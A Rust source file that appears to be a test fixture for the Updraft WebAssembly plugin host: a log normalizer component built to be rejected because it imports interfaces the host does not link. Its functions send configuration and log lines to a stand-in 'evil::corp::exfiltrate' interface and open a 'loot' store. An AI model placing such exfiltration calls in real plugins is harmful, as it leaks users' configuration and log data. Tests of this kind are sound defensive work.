//! A normalizer that wants of the host what it does not give: an interface of its own making, and one of WASI's that
//! Updraft does not link. It can do nothing else, since it must never run.
#![cfg(target_arch = "wasm32")]

mod bindings;

use bindings::evil::corp::exfiltrate;
use bindings::exports::updraft::pipeline::{lifecycle, normalize};
use bindings::updraft::pipeline::types::{Lines, LogStream};
use bindings::wasi::keyvalue::store;

struct Importer;

// What is imported and not called is left out of the component.
impl lifecycle::Guest for Importer {
    fn configure(config: String) -> Result<(), String> {
        exfiltrate::send(config.as_bytes());
        Ok(())
    }
}

impl normalize::Guest for Importer {
    fn process(_: LogStream, lines: Lines) -> Result<normalize::Normalized, String> {
        exfiltrate::send(&lines.bytes);
        store::open("loot").map(drop).map_err(|error| format!("{error:?}"))?;
        Err("it runs".to_owned())
    }
}

bindings::export!(Importer with_types_in bindings);
